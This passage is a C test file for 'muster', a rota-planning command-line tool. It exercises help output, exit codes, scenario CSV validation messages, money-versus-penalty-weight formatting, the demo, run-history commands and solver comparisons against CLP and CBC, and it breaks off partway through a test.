/*
 * test_cli.c - end to end through the muster binary: help for every
 * command, exit codes, check on good and bad scenarios, example, demo, and
 * the run history commands.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

#include "core/mu_alloc.h"
#include "core/mu_buf.h"
#include "core/mu_format.h"
#include "cli/cli_options.h"
#include "core/mu_settings.h"
#include "io/io_csv.h"
#include "io/io_scenario.h"
#include "io/io_store.h"
#include "model_harness.h"
#include "plan_check.h"
#include "sum_check.h"
#include "test_util.h"

#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <math.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sqlite3.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

/* The commands `muster help` lists: the binary prints one line per row of
 * its command table (cli_commands), "  NAME SUMMARY", under "commands:" and
 * up to an empty line. Fills names (at most max) and returns how many. */
static size_t listed_commands(const char *overview, char names[][32], size_t max)
{
	const char *line = strstr(overview, "\ncommands:\n");
	size_t n = 0;
	assert_non_null(line);
	for (line += strlen("\ncommands:\n"); strncmp(line, "  ", 2) == 0;) {
		const char *name = line + 2, *end = strchr(line, '\n'), *summary;
		size_t len = strcspn(name, " \n");
		assert_non_null(end);
		assert_true(len > 0 && len < sizeof(names[0]));
		for (summary = name + len; *summary == ' '; summary++)
			;
		/* every row has a summary (printf would show a NULL one as "(null)") */
		assert_true(summary < end);
		assert_true(strncmp(summary, "(null)", 6) != 0);
		assert_true(n < max);
		memcpy(names[n], name, len);
		names[n][len] = '\0';
		n++;
		line = end + 1;
	}
	assert_true(*line == '\n'); /* the list ends with an empty line */
	return n;
}

/* Every command of the table, as `muster help` lists it, has a help of its
 * own: `muster CMD --help` starts with its usage line and is what `muster
 * help CMD` prints. A command added to the table without its help fails. */
static void test_cli_help_for_every_command(void **state)
{
	struct tu_result r = tu_run("help", NULL);
	char names[64][32];
	size_t i, j, n;
	bool has_help = false;
	(void)state;
	assert_int_equal(r.status, 0);
	n = listed_commands(r.out, names, 64);
	for (i = 0; i < n; i++) {
		char usage[64];
		struct tu_result h = tu_run(names[i], "--help", NULL),
		                 h2 = tu_run("help", names[i], NULL);
		for (j = 0; j < i; j++)
			assert_string_not_equal(names[i], names[j]);
		has_help |= strcmp(names[i], "help") == 0;
		snprintf(usage, sizeof(usage), "usage: muster %s", names[i]);
		assert_int_equal(h.status, 0);
		assert_true(strncmp(h.out, usage, strlen(usage)) == 0);
		assert_true(h.out[strlen(usage)] == ' ' || h.out[strlen(usage)] == '\n');
		assert_int_equal(h2.status, 0);
		assert_string_equal(h.out, h2.out);
		tu_result_free(&h);
		tu_result_free(&h2);
	}
	assert_true(has_help); /* the listing was read: it names itself */
	tu_result_free(&r);
}

/* Every example line of every command's help (a line that reads, after its
 * indent, "muster ..."; commands joined by "; "; a note after two spaces
 * and "(" is not part of it) runs as printed, in the order `muster help`
 * lists the commands, in a folder where `muster example ex` was written:
 * each exits 0, or 3 (solved with a red flag). */
static void test_cli_help_examples_run_on_the_example(void **state)
{
	struct tu_result r = tu_run("help", NULL);
	struct tu_child in = {0};
	char names[64][32], dir[400];
	size_t i, n, n_run = 0;
	(void)state;
	n = listed_commands(r.out, names, 64);
	tu_result_free(&r);
	tu_path(dir, sizeof(dir), "hx");
	assert_int_equal(mkdir(dir, 0777), 0);
	in.dir = dir;
	{
		const char *const args[] = {"example", "ex", NULL};
		char *out, *err;
		int st = tu_run_child(&in, args, &out, &err);
		assert_true(WIFEXITED(st) && WEXITSTATUS(st) == 0);
		free(out);
		free(err);
	}
	for (i = 0; i < n; i++) {
		struct tu_result h = tu_run(names[i], "--help", NULL);
		char *line, *save = NULL;
		assert_int_equal(h.status, 0);
		for (line = strtok_r(h.out, "\n", &save); line;
		     line = strtok_r(NULL, "\n", &save)) {
			char *cmd = line + strspn(line, " "), *next, *note;
			if (cmd == line || strncmp(cmd, "muster ", 7) != 0)
				continue;
			if ((note = strstr(cmd, "  (")) != NULL)
				*note = '\0';
			for (; cmd; cmd = next) {
				const char *args[32];
				char *word, *ws = NULL, *out, *err;
				size_t k = 0;
				int st;
				if ((next = strstr(cmd, "; ")) != NULL) {
					*next = '\0';
					next += 2;
				}
				assert_true(strncmp(cmd, "muster ", 7) == 0);
				for (word = strtok_r(cmd + 7, " ", &ws); word;
				     word = strtok_r(NULL, " ", &ws)) {
					assert_true(k < 31);
					args[k++] = word;
				}
				args[k] = NULL;
				st = tu_run_child(&in, args, &out, &err);
				if (!WIFEXITED(st) ||
				    (WEXITSTATUS(st) != 0 && WEXITSTATUS(st) != 3))
					fail_msg("muster %s --help: 'muster %s ...' exited %d: %s",
					         names[i], args[0],
					         WIFEXITED(st) ? WEXITSTATUS(st) : -1, err);
				n_run++;
				free(out);
				free(err);
			}
		}
		tu_result_free(&h);
	}
	assert_true(n_run >= 10); /* the examples were found */
}

/* Every command that searches for a rota says its default bound, the
 * work limit CLI_WORK_LIMIT, in its help, as the number it is; sweep's
 * says its time limit is per point. */
static void test_cli_help_says_the_default_work_limit(void **state)
{
	static const char *const cmds[] = {"solve", "compare", "sweep", "recruit"};
	char digits[32];
	size_t k, n = 0;
	(void)state;
	for (k = 0; CLI_WORK_LIMIT_WORDS[k]; k++)
		if (CLI_WORK_LIMIT_WORDS[k] != ',')
			digits[n++] = CLI_WORK_LIMIT_WORDS[k];
	digits[n] = '\0';
	assert_int_equal(atol(digits), CLI_WORK_LIMIT);
	for (k = 0; k < sizeof(cmds) / sizeof(cmds[0]); k++) {
		struct tu_result h = tu_run(cmds[k], "--help", NULL);
		if (!strstr(h.out, CLI_WORK_LIMIT_WORDS " simplex iterations"))
			fail_msg("%s --help does not say its work limit", cmds[k]);
		if (strcmp(cmds[k], "sweep") == 0)
			assert_non_null(strstr(h.out, "per point"));
		tu_result_free(&h);
	}
}

/* sweep's help lists by hand what a sweep may vary: every setting the
 * table marks sweepable must be there, and no other. */
static void test_cli_sweep_help_names_every_sweepable_setting(void **state)
{
	struct tu_result h = tu_run("sweep", "--help", NULL);
	size_t i;
	(void)state;
	for (i = 0; i < MU_SETTING_COUNT; i++) {
		const char *key = mu_settings_table[i].key;
		const char *at = strstr(h.out, key);
		/* a whole word: agency_budget also begins agency_budget.PARTNER */
		while (at && at[strlen(key)] == '.')
			at = strstr(at + 1, key);
		if (mu_settings_table[i].is_sweepable != (at != NULL))
			fail_msg("sweep --help and the settings table disagree on %s", key);
	}
	tu_result_free(&h);
}

static void test_cli_bad_usage_exits_2(void **state)
{
	struct tu_result r;
	(void)state;
	r = tu_run(NULL);
	assert_int_equal(r.status, 2);
	tu_result_free(&r);
	r = tu_run("frobnicate", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "unknown command 'frobnicate'"));
	tu_result_free(&r);
	r = tu_run("check", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "missing SCENARIO"));
	tu_result_free(&r);
	r = tu_run("runs", "--bogus", NULL);
	assert_int_equal(r.status, 2);
	tu_result_free(&r);
	r = tu_run("check", "no-such-folder", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "no-such-folder"));
	tu_result_free(&r);
	/* --out into the scenario folder is refused before anything is solved or
	 * written: the folder still reads as the scenario it was */
	r = tu_run("example", "own", NULL);
	assert_int_equal(r.status, 0);
	tu_result_free(&r);
	r = tu_run("solve", "own", "--lp", "--out", "own/../own", "--db", "own.db", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "is the scenario folder"));
	tu_result_free(&r);
	r = tu_run("check", "own", NULL);
	assert_int_equal(r.status, 0);
	tu_result_free(&r);
}

static void test_cli_check_the_example_and_a_broken_copy(void **state)
{
	struct tu_result r;
	char path[400];
	FILE *fp;
	(void)state;
	r = tu_run("check", getenv("MUSTER_EXAMPLE_DIR"), NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "ok: 7 partners"));
	tu_result_free(&r);

	r = tu_run("example", "sc", NULL);
	assert_int_equal(r.status, 0);
	tu_result_free(&r);
	r = tu_run("example", "sc", NULL); /* never overwrites */
	assert_int_equal(r.status, 2);
	tu_result_free(&r);
	r = tu_run("check", "sc", NULL);
	assert_int_equal(r.status, 0);
	tu_result_free(&r);

	snprintf(path, sizeof(path), "%s/sc/demand.csv", tu_dir());
	fp = fopen(path, "w");
	fputs("partner,role,shift,required\nacute_north,rn_b5,tue-x,3\nacute_north,rn_b5,mon-e,-1\n"
	      "acute_nort,rn_b5,tue-e,3\n",
	      fp);
	fclose(fp);
	snprintf(path, sizeof(path), "%s/sc/settngs.csv", tu_dir());
	fp = fopen(path, "w");
	fclose(fp);
	r = tu_run("check", "sc", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "settngs.csv: unknown file"));
	/* tue-x is one slip from tue-e, tue-l and tue-n alike: no guess */
	assert_non_null(strstr(r.err, "demand.csv:2:3: unknown shift 'tue-x'\n"));
	/* one id one slip away: named */
	assert_non_null(strstr(r.err, "demand.csv:4:1: unknown partner 'acute_nort' (did you mean "
	                              "'acute_north'? partners.csv has no such id)\n"));
	assert_non_null(
	    strstr(r.err, "demand.csv:3:4: negative value '-1' in column 'required': must be 0 or "
	                  "more\n"));
	assert_non_null(strstr(r.err, "sc: 4 errors\n"));
	tu_result_free(&r);
}

/* Replaces the first from in the file at path (under tu_dir()) by to. */
static void edit_file(const char *path, const char *from, const char *to)
{
	char full[400];
	char *text, *at;
	struct mu_buf edited;
	tu_path(full, sizeof(full), path);
	text = tu_slurp(full);
	at = strstr(text, from);
	assert_non_null(at);
	mu_buf_init(&edited);
	mu_buf_add(&edited, text, (size_t)(at - text));
	mu_buf_adds(&edited, to);
	mu_buf_adds(&edited, at + strlen(from));
	tu_write(full, edited.data, edited.len);
	mu_buf_release(&edited);
	free(text);
}

/* Warnings (DESIGN.md §2) go to stderr as "warning: file: message" and
 * change no exit status: check exits 0 with them, solve as it does without
 * them; a scenario with an error still exits 2, and names the spreadsheet. */
static void test_cli_warnings_keep_the_exit_status(void **state)
{
	struct tu_result r, plain;
	char path[400];
	FILE *fp;
	(void)state;
	r = tu_run("example", "warn", NULL);
	assert_int_equal(r.status, 0);
	tu_result_free(&r);
	snprintf(path, sizeof(path), "%s/warn/notes.xlsx", tu_dir());
	fp = fopen(path, "wb");
	assert_non_null(fp);
	fclose(fp);

	plain = tu_run("solve", getenv("MUSTER_EXAMPLE_DIR"), "--lp", "--db", "warn.db", NULL);
	r = tu_run("solve", "warn", "--lp", "--db", "warn.db", NULL);
	assert_int_equal(r.status, plain.status);
	assert_true(strncmp(r.err,
	                    "warning: notes.xlsx: not read: muster reads CSV (save as \"CSV "
	                    "UTF-8\")\n",
	                    strlen("warning: notes.xlsx: not read")) == 0);
	assert_null(strstr(plain.err, "warning:"));
	tu_result_free(&r);
	tu_result_free(&plain);

	snprintf(path, sizeof(path), "%s/warn/availability.csv", tu_dir());
	assert_int_equal(remove(path), 0);
	r = tu_run("check", "warn", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "warn: ok: 7 partners"));
	assert_string_equal(r.err,
	                    "warning: notes.xlsx: not read: muster reads CSV (save as \"CSV "
	                    "UTF-8\")\n"
	                    "warning: availability.csv: missing, so none of the 276 bank workers "
	                    "offered a shift and none can work (it lists each worker's offered "
	                    "shifts)\n");
	tu_result_free(&r);

	/* the issue's unquoted 45,000: one error, not 365 */
	edit_file("warn/partners.csv", ",acute,45000,", ",acute,45,000,");
	r = tu_run("check", "warn", NULL);
	assert_int_equal(r.status, 2);
	assert_string_equal(r.err,
	                    "warning: notes.xlsx: not read: muster reads CSV (save as \"CSV "
	                    "UTF-8\")\n"
	                    "partners.csv:2:6: extra field (row has 6, the header 5): the comma in "
	                    "'45,000' splits the row: numbers take no thousands separator (write "
	                    "45000)\n"
	                    "warn: 1 error\n");
	tu_result_free(&r);
}

/* True when the line of out holding name shows a pound sign. */
static bool line_has_pound(const char *out, const char *name)
{
	const char *at = strstr(out, name), *end, *pound;
	assert_non_null(at);
	end = strchr(at, '\n');
	pound = strstr(at, "\xc2\xa3");
	return pound && (!end || pound < end);
}

/* The money at s, "£147,429.59", as a number. */
static double parse_money(const char *s)
{
	char digits[64];
	size_t n = 0;
	for (; *s && n + 1 < sizeof(digits); s++)
		if (isdigit((unsigned char)*s) || *s == '.')
			digits[n++] = *s;
		else if (*s != ',')
			break;
	digits[n] = '\0';
	return strtod(digits, NULL);
}

/* Issue 24: a penalty weight, or a total that holds one (the objective),
 * is never shown as money. Fails unless out shows weight as a plain number
 * ("312,820.85", or in whole units "312,821") and fails if a pound sign
 * stands right before it in either form. */
static void assert_shown_as_weight(const char *out, double weight)
{
	char text[2][MU_MONEY_SIZE], pounds[2 * MU_MONEY_SIZE + 8];
	int k;
	bool is_shown = false;
	mu_format_weight(text[0], fabs(weight), 2);
	mu_format_weight(text[1], fabs(weight), 0);
	for (k = 0; k < 2; k++) {
		is_shown = is_shown || strstr(out, text[k]) != NULL;
		snprintf(pounds, sizeof(pounds), "\xc2\xa3%s", text[k]);
		if (strstr(out, pounds))
			fail_msg("the weight %s is shown as money: '%s'", text[k], pounds);
	}
	if (!is_shown)
		fail_msg("the weight %s is not shown", text[0]);
}

/* The gap a status line gives ("best found, within 0.05%"), in per
 * cent; fails unless the line at s says so, and with a gap above 0. */
static double stated_gap(const char *s)
{
	double gap = -1;
	assert_non_null(s);
	assert_int_equal(sscanf(s, "best found, within %lf%%", &gap), 1);
	assert_true(gap > 0);
	assert_int_not_equal(strncmp(s, "best found, within 0.0%", 23), 0);
	assert_int_not_equal(strncmp(s, "best found, within 0%", 21), 0);
	return gap;
}

/* Whether out says a rota "best found" with no gap: the rota built before
 * the relaxation, which the time ran out before solving (sol_construct.c). */
static bool is_without_bound(const char *out)
{
	const char *at;
	for (at = strstr(out, "best found"); at; at = strstr(at + 1, "best found"))
		if (strncmp(at + strlen("best found"), ", within", strlen(", within")) != 0)
			return true;
	return false;
}

/* muster with the NULL-terminated args, which give "--time-limit" and its
 * seconds and name the database db. A search given seconds on a loaded
 * machine may spend them all before its linear relaxation is solved, and
 * then has no rota (exit 1, "the time limit of S s passed before the
 * linear relaxation was solved": plan mode) or only the rota built before
 * it, with no bound ("best found" with no gap: rota mode): that outcome
 * is checked, and the run is made again into a fresh database with twice the time, up to 64 s. What
 * a test asserts is then of the first run that found a rota, the same on an idle and a busy
 * machine; the limit still stops each search. */
static struct tu_result run_with_time_limit(const char *const *args, const char *db)
{
	const char *argv[32];
	char seconds_text[32], want[200], path[400];
	double seconds = 0;
	size_t n, at = 0;
	for (n = 0; args[n]; n++) {
		assert_true(n < 31);
		argv[n] = args[n];
		if (n > 0 && strcmp(args[n - 1], "--time-limit") == 0)
			seconds = atof(args[at = n]);
	}
	argv[n] = NULL;
	assert_true(at > 0 && seconds > 0);
	tu_path(path, sizeof(path), db);
	for (;; seconds *= 2) {
		struct tu_result r;
		int status;
		snprintf(seconds_text, sizeof(seconds_text), "%g", seconds);
		argv[at] = seconds_text;
		status = tu_run_child(&(struct tu_child){0}, argv, &r.out, &r.err);
		assert_true(WIFEXITED(status));
		r.status = WEXITSTATUS(status);
		if (!is_without_bound(r.out) &&
		    (r.status != 1 ||
		     !strstr(r.err, "passed before the linear relaxation was solved")))
			return r;
		if (is_without_bound(r.out)) { /* the rota built before the relaxation */
			if (seconds >= 64)
				fail_msg("no bound in %g s: %s", seconds, r.out);
			print_message("muster %s: no bound in %g s (a loaded machine), again "
			              "with %g s\n",
			              args[0], seconds, 2 * seconds);
			tu_result_free(&r);
			tu_remove_db(path);
			continue;
		}
		snprintf(want, sizeof(want),
		         "the time limit of %g s passed before the linear relaxation was solved; "
		         "no rota; allow more time",
		         seconds);
		if (!strstr(r.err, want))
			fail_msg("no rota in %g s, said as:\n%s", seconds, r.err);
		if (seconds >= 64)
			fail_msg("no rota in %g s: %s", seconds, r.err);
		print_message("muster %s: no rota in %g s (a loaded machine), again with %g s\n",
		              args[0], seconds, 2 * seconds);
		tu_result_free(&r);
		tu_remove_db(path);
	}
}

static void test_cli_demo_needs_no_files(void **state)
{
	const char *const timed[] = {"demo", "--time-limit", "1", "--db", "demo.db", NULL};
	struct tu_result r = tu_run("demo", "--db", "demo.db", NULL);
	const char *saves, *silo;
	double system_cost, silo_cost;
	(void)state;
	assert_int_equal(r.status, 0);
	/* stopped by proof or by work, never by the clock: the system rota is
	 * proven, the silo rota stops at its work limit, which says so */
	assert_non_null(strstr(r.out, "Solving the system rota ... optimal in "));
	silo = strstr(r.out, "Solving the silo rota (each partner alone) ... ");
	assert_non_null(silo);
	silo += strlen("Solving the silo rota (each partner alone) ... ");
	stated_gap(silo);
	assert_non_null(strstr(silo, "of the best possible, in "));
	assert_non_null(strstr(silo, " of its 5000 simplex iterations)"));
	assert_non_null(strstr(r.out, "red flags"));
	assert_non_null(strstr(r.out, "St Aidan's Hospice"));
	/* the system plan beats the silo plan, and says by how much: the
	 * objective (spend plus penalty weights) as a plain number, never
	 * pounds (issue 24) */
	assert_non_null(strstr(r.out, "\n  objective    "));
	system_cost = parse_money(strstr(r.out, "\n  objective    ") + strlen("\n  objective    "));
	/* in cash, hours and red flags; the objective (with penalties) apart */
	assert_non_null(strstr(r.out, "Working together fills "));
	saves = strstr(r.out, "and break-glass: not money) is ");
	assert_non_null(saves);
	saves += strlen("and break-glass: not money) is ");
	assert_true(isdigit((unsigned char)*saves));
	assert_non_null(strstr(saves, " lower"));
	silo_cost = system_cost + parse_money(saves);
	assert_true(system_cost > 100000);
	assert_true(silo_cost > 1.2 * system_cost);
	assert_shown_as_weight(r.out, system_cost);
	assert_shown_as_weight(r.out, parse_money(saves));
	/* the penalties line, the objective line and the comparison's weight
	 * rows carry no pound sign but the spend's in the objective's line */
	assert_false(line_has_pound(r.out, "  penalties    "));
	assert_non_null(strstr(r.out, " in penalty weights, not money: unfilled hours "));
	assert_false(line_has_pound(r.out, "  penalties (weights) "));
	assert_false(line_has_pound(r.out, "    unfilled hours "));
	assert_false(line_has_pound(r.out, "    break-glass "));
	assert_false(line_has_pound(r.out, "  objective (spend+weights) "));
	{
		const char *obj = strstr(r.out, "\n  objective    ");
		const char *spend = strstr(obj, "(spend \xc2\xa3");
		assert_non_null(spend);
		assert_true(spend < strchr(obj + 1, '\n'));
		assert_non_null(strstr(spend, " in penalty weights: what the plan minimises)"));
	}
	/* the answer first: the headline and what working together is worth,
	 * then the unfilled rows, and the next step last */
	{
		const char *headline = strstr(r.out, "System rota, the whole week:\n");
		const char *worth = strstr(r.out, "Working together fills ");
		const char *unfilled = strstr(r.out, "Red flags first, then the other unfilled");
		const char *next = "Next: write the example out as CSV files to edit into your "
		                   "own system, and solve it:\n  muster example ex\n  muster "
		                   "solve ex --out out\n";
		assert_non_null(headline);
		assert_non_null(unfilled);
		assert_true(headline < worth && worth < unfilled);
		assert_true(strlen(r.out) >= strlen(next));
		assert_string_equal(r.out + strlen(r.out) - strlen(next), next);
	}
	/* the partner table's agency column adds up to its system row, the
	 * headline's agency spend, to the penny */
	{
		const char *line = strstr(r.out, "  partner       fill");
		const char *head = strstr(r.out, "  agency spend \xc2\xa3");
		double sum = 0, total;
		size_t n_rows = 0;
		assert_non_null(line);
		assert_non_null(head);
		for (line = strchr(line, '\n') + 1; strncmp(line, "  system ", 9) != 0;
		     line = strchr(line, '\n') + 1) {
			sum += parse_money(strstr(line, "\xc2\xa3") + 2);
			n_rows++;
		}
		assert_int_equal(n_rows, 7);
		total = parse_money(strstr(line, "\xc2\xa3") + 2);
		assert_true(fabs(sum - total) < 0.001);
		assert_true(fabs(parse_money(head + strlen("  agency spend \xc2\xa3")) - total) <
		            0.001);
	}
	tu_result_free(&r);
	/* both solves are recorded, with their KPIs */
	r = tu_run("runs", "--db", "demo.db", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "demo"));
	tu_result_free(&r);
	r = tu_run("show", "2", "--db", "demo.db", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "silo"));
	assert_non_null(strstr(r.out, "fill_fraction"));
	assert_non_null(strstr(r.out, "status     feasible")); /* the store's word */
	/* weights are *_penalty, with no pound sign; spend is money */
	assert_null(strstr(r.out, "short_cost"));
	assert_null(strstr(r.out, "agency_cost"));
	assert_non_null(strstr(r.out, "short_penalty"));
	assert_false(line_has_pound(r.out, " short_penalty "));
	assert_false(line_has_pound(r.out, " penalties "));
	assert_false(line_has_pound(r.out, " total_cost "));
	assert_true(line_has_pound(r.out, " agency_spend "));
	tu_result_free(&r);
	/* --time-limit overrides the work limit, and the demo says which: the
	 * silo rota (never proven in minutes) stops by the clock, no search
	 * by work (the system rota may be proven in the time, with its
	 * iterations) */
	r = run_with_time_limit(timed, "demo.db");
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "(stopped by its time limit)"));
	assert_null(strstr(r.out, "(stopped at "));
	/* the limit is the whole demo's: each search says its share (issue 24) */
	assert_non_null(strstr(r.out, "Solving the system rota, up to "));
	assert_non_null(strstr(r.out, "Solving the silo rota (each partner alone), up to "));
	tu_result_free(&r);
}

static void test_cli_runs_and_show(void **state)
{
	struct io_store *st = NULL;
	struct io_source *src = io_source_example();
	struct io_run run_rec;
	struct mu_err err;
	struct tu_result r;
	char db[400];
	(void)state;

	r = tu_run("runs", "--db", "none.db", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "no such database"));
	tu_result_free(&r);

	snprintf(db, sizeof(db), "%s/runs.db", tu_dir());
	memset(&run_rec, 0, sizeof(run_rec));
	run_rec.command = "solve";
	run_rec.mode = "plan";
	run_rec.status = "optimal";
	run_rec.has_objective = true;
	run_rec.objective = 1234.5;
	mu_err_clear(&err);
	assert_int_equal(io_store_open(db, true, &st, &err), MU_OK);
	assert_int_equal(io_store_add_run(st, src, &run_rec, NULL, &err), MU_OK);
	io_store_close(st);
	io_source_free(src);

	r = tu_run("runs", "--db", "runs.db", NULL);
	assert_int_equal(r.status, 0);
	/* the objective is spend plus penalty weights: no pound sign */
	assert_non_null(strstr(r.out, " 1,234.50"));
	assert_null(strstr(r.out, "\xc2\xa3"));
	assert_non_null(strstr(r.out, "(built-in example)"));
	tu_result_free(&r);
	r = tu_run("show", "1", "--db=runs.db", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(
	    strstr(r.out, "objective  1,234.50 (spend plus penalty weights, not money)"));
	tu_result_free(&r);
	r = tu_run("show", "2", "--db", "runs.db", NULL);
	assert_int_equal(r.status, 2);
	assert_non_null(strstr(r.err, "no run 2"));
	tu_result_free(&r);
	r = tu_run("show", "x1", "--db", "runs.db", NULL);
	assert_int_equal(r.status, 2);
	tu_result_free(&r);
}

/* The example scenario, parsed. */
static struct mu_scenario *example(void)
{
	return tu_load_dir(getenv("MUSTER_EXAMPLE_DIR"));
}

/* Checks the outputs a solve of the example wrote into tu_dir()/dir. */
static void check_outputs(const char *dir, bool is_rota, bool is_silo, double objective)
{
	struct mu_scenario *sc = example();
	char path[400];
	char page[500], why[512];
	snprintf(path, sizeof(path), "%s/%s", tu_dir(), dir);
	harness_check_outputs(sc, path, is_rota, is_silo, objective);
	/* the page's partner table adds up as shown (compare's plans have none) */
	snprintf(page, sizeof(page), "%s/report.html", path);
	if (access(page, F_OK) == 0 && !sum_check_partner_table(page, why, sizeof(why)))
		fail_msg("%s", why);
	mu_scenario_free(sc);
}

/* The objective from a solve's headline ("objective 147,429.59"): spend
 * plus penalty weights, so a plain number with no pound sign (issue 24). */
static double headline_cost(const char *out)
{
	const char *cost = strstr(out, ", objective ");
	assert_non_null(cost);
	cost += strlen(", objective ");
	assert_true(isdigit((unsigned char)*cost));
	return parse_money(cost);
}

/* Issue #24: the report's unfilled table tells every reason of a row, or
 * how many more why.csv has: the reasons shown plus each "and N more in
 * why.csv" add up to why.csv's rows of the demand rows the table shows
 * (why.csv lists them in the table's order, each row's reasons together). */
static void check_unfilled_reasons(const char *dir)
{
	char path[400], key[200] = "";
	char *html, *at, *end, *why, *line;
	size_t n_said = 0, n_shown = 0, n_keys = 0, n_reasons = 0;
	tu_path(path, sizeof(path), dir);
	strcat(path, "/report.html");
	html = tu_slurp(path);
	at = strstr(html, "Red flags and unfilled shifts");
	assert_non_null(at);
	end = strstr(at, "</table>");
	assert_non_null(end);
	*end = '\0';
	while ((at = strstr(at, "<td class=\"why\">")) != NULL) {
		char *cell_end = strstr(at, "</td>"), *more;
		assert_non_null(cell_end);
		*cell_end = '\0';
		n_shown++;
		for (more = at; (more = strstr(more, "<b>")) != NULL; more++)
			n_said++;
		more = strstr(at, " more in why.csv");
		if (more) { /* "and N more in why.csv": N ends at more */
			while (more > at && more[-1] >= '0' && more[-1] <= '9')
				more--;
			assert_true(more - at >= 4 && strncmp(more - 4, "and ", 4) == 0);
			n_said += strtoul(more, NULL, 10);
		}
		at = cell_end + 1;
	}
	free(html);
	tu_path(path, sizeof(path), dir);
	strcat(path, "/why.csv");
	why = tu_slurp(path);
	/* each line's key: partner,role,shift (ids: no quotes, no commas) */
	for (line = strchr(why, '\n') + 1; *line; line = strchr(line, '\n') + 1) {
		const char *third = strchr(strchr(strchr(line, ',') + 1, ',') + 1, ',');
		size_t len = (size_t)(third - line);
		assert_true(len < sizeof(key));
		if (strncmp(line, key, len) != 0 || key[len] != '\0') {
			if (n_keys++ == n_shown)
				break;
			memcpy(key, line, len);
			key[len] = '\0';
		}
		n_reasons++;
	}
	free(why);
	assert_true(n_shown > 0);
	assert_int_equal(n_said, n_reasons);
}

static double csv_value(const char *path, const char *prefix, int col);

static void test_cli_solve_plan_mode_matches_clp(void **state)
{
	struct tu_result r;
	double ours, clp;
	char mps[400], path[400], *prices;
	(void)state;
	r = tu_run("solve", getenv("MUSTER_EXAMPLE_DIR"), "--lp", "--db", "s.db", "--out", "out",
	           "--write-mps", "example.mps", "--write-mps-natural", "natural.mps", NULL);
	assert_int_equal(r.status, 0);
	ours = headline_cost(r.out);
	/* the model solved (pooled) and the natural one */
	tu_path(mps, sizeof(mps), "example.mps");
	clp = harness_peer_objective(mps, false);
	assert_true(clp > 0);
	assert_true(fabs(ours - clp) <= 1e-6 * clp + 0.01);
	tu_path(mps, sizeof(mps), "natural.mps");
	clp = harness_peer_objective(mps, false);
	assert_true(fabs(ours - clp) <= 1e-6 * clp + 0.01);
	check_outputs("out", false, false, ours);
	{
		/* report.html: the objective's tile, the penalties' tile and the
		 * penalties-by-kind bars are weights: never after a pound sign
		 * (issue 24); the terminal's too */
		char *html;
		tu_path(path, sizeof(path), "out/report.html");
		html = tu_slurp(path);
		tu_path(path, sizeof(path), "out/summary.csv");
		assert_shown_as_weight(html, ours);
		assert_shown_as_weight(r.out, ours);
		assert_shown_as_weight(html, csv_value(path, "SYSTEM,", 31)); /* penalties */
		assert_shown_as_weight(r.out, csv_value(path, "SYSTEM,", 31));
		assert_shown_as_weight(html, csv_value(path, "SYSTEM,", 25)); /* short */
		/* a partner's net cash + penalties: total_cost + recharge paid -
		 * received (columns 13, 20, 19), recharge in it as compare counts */
		assert_shown_as_weight(html, csv_value(path, "acute_north,", 13) +
		                                 csv_value(path, "acute_north,", 20) -
		                                 csv_value(path, "acute_north,", 19));
		assert_non_null(strstr(html, "objective: spend + penalty weights"));
		free(html);
	}
	tu_result_free(&r);
	/* prices.csv: a row per constraint, demand rows priced */
	tu_path(path, sizeof(path), "out/prices.csv");
	prices = tu_slurp(path);
	assert_non_null(strstr(prices, "constraint,kind,partner,role,shift,subject,unit,limit,"
	                               "activity,shadow_price,range_from,range_to\n"));
	assert_non_null(strstr(prices, "\ncover_d0,demand,acute_north,"));
	assert_non_null(strstr(prices, ",budget,SYSTEM,"));
	free(prices);
	check_unfilled_reasons("out");
	r = tu_run("runs", "--db", "s.db", NULL);
	assert_int_equal(r.status, 0);
	assert_non_null(strstr(r.out, "plan"));
	tu_result_free(&r);
}

/* CBC's proven optimum must lie between muster's bound and its rota, and
 * the rota must be within 1% of it. Both searches run to proof, the same
 * work however loaded the machine is (muster's about 4 s on an idle
 * machine, CBC's about 11 s): no clock decides what either finds. */
/* csv_value of compare.csv's row of partner id (with its comma) and measure:
 * the row starts "id,name,measure," whatever the name. */
static double csv_value_measure(const char *path, const char *id, const char *measure, int col)
{
	char *text = tu_slurp(path), *line, want[120];
	double v = NAN;
	snprintf(want, sizeof(want), ",%s,", measure);
	for (line = text; line && *line; line = strchr(line, '\n'), line = line ? line + 1 : NULL) {
		const char *end = strchr(line, '\n'), *m;
		if (strncmp(line, id, strlen(id)) != 0)
			continue;
		m = strstr(line, want);
		if (!m || (end && m > end))
			continue;
		{
			const char *c = line;
			int k;
			for (k = 1; k < col && c; k++) {
				c = strchr(c, ',');
				c = c ? c + 1 : NULL;
			}
			if (c)
				v = strtod(c, NULL);
		}
		break;
	}
	free(text);
	return v;
}

static size_t count_lines(const char *path);

static void test_cli_solve_rota_mode_brackets_cbc(void **state)
{
	struct tu_result r;
	double ours, bound, cbc;
	const char *at;
	char mps[400];
	(void)state;
	r = tu_run("solve", getenv("MUSTER_EXAMPLE_DIR"), "--db", "s.db", "--out", "rota",
	           "--write-mps-natural", "rota.mps", NULL);
	assert_int_equal(r.status, 0);
	ours = headline_cost(r.out);
	at = strstr(r.out, ", bound ");
	assert_non_null(at);
	assert_true(isdigit((unsigned char)at[strlen(", bound ")])); /* weights: no £ */
	bound = parse_money(at + strlen(", bound "));
	assert_shown_as_weight(r.out, ours);
	assert_shown_as_weight(r.out, bound);
	tu_path(mps, sizeof(mps), "rota.mps");
	cbc = harness_peer_objective(mps, true);
